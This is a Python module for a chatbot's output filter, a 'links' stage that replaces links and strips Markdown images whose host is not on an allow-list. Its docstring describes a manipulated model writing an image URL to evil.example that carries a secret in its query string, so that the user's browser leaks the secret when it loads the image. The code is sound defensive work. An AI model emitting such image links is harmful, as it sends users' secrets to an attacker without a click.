"""The `links` stage: the bot's answers may only link to (and show images from) allowed sites.

A model can be talked into writing `![x](https://evil.example/?q=<secret>)`: the user's
browser fetches the image and the secret leaves without a click. Every URL in an answer whose
host is not on `allowed_domains` (or a subdomain of one) is replaced; a Markdown image from
such a host is removed whole. Runs at the `output` point, on text the stream filter releases
(a URL has no whitespace, so a release never cuts one in half).
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from pydantic import Field, field_validator

from policies.base import Context, Strict
from policies.verdicts import Allow, Finding, Verdict

# Markdown images first (removed whole), then bare or Markdown-linked URLs.
_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?([^\s)>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_URL = re.compile(r"\b(?:https?://|www\.)[^\s<>()\[\]\"'`]+", re.IGNORECASE)
_TRAILING = ".,;:!?"


class LinkRules(Strict):
    """Which sites answers may link to."""

    enabled: bool = True
    # Hosts answers may link to; each also allows its subdomains. Empty: no links at all.
    allowed_domains: list[str] = Field(default_factory=list)
    # What replaces a link to any other site.
    replacement: str = "[link removed]"

    @field_validator("allowed_domains", mode="after")
    @classmethod
    def _hosts(cls, domains: list[str]) -> list[str]:
        cleaned = []
        for domain in domains:
            host = domain.strip().lower().removeprefix("*.").rstrip(".")
            if not re.fullmatch(r"[a-z0-9-]+(\.[a-z0-9-]+)+", host):
                raise ValueError(f"{domain!r} is not a host name; write it like 'help.example.com'")
            cleaned.append(host)
        return cleaned


class LinkStage:
    """Rewrites disallowed links and images out of an answer; never blocks."""

    name = "links"

    def __init__(self, rules: LinkRules) -> None:
        self._rules = rules

    def warm_up(self) -> None:
        """Nothing to load."""

    def allowed(self, url: str) -> bool:
        """Whether `url`'s host is an allowed domain or a subdomain of one."""
        target = url if "://" in url else f"http://{url}"
        try:
            host = (urlsplit(target).hostname or "").rstrip(".")
        except ValueError:
            return False
        return any(host == d or host.endswith(f".{d}") for d in self._rules.allowed_domains)

    def check(self, text: str, context: Context) -> Verdict:
        if not self._rules.enabled or ("://" not in text and "www." not in text.lower()):
            return Allow(text)
        removed = {"image": 0, "link": 0}

        def image(match: re.Match[str]) -> str:
            if self.allowed(match.group(1)):
                return match.group()
            removed["image"] += 1
            return ""

        def link(match: re.Match[str]) -> str:
            url = match.group()
            trail = len(url) - len(url.rstrip(_TRAILING))
            url, tail = url[: len(url) - trail], url[len(url) - trail :]
            if self.allowed(url):
                return match.group()
            removed["link"] += 1
            return self._rules.replacement + tail

        rewritten = _URL.sub(link, _IMAGE.sub(image, text))
        findings = tuple(
            Finding(self.name, f"disallowed_{kind}", "rewrite", count=count)
            for kind, count in removed.items()
            if count
        )
        return Allow(rewritten, findings=findings)
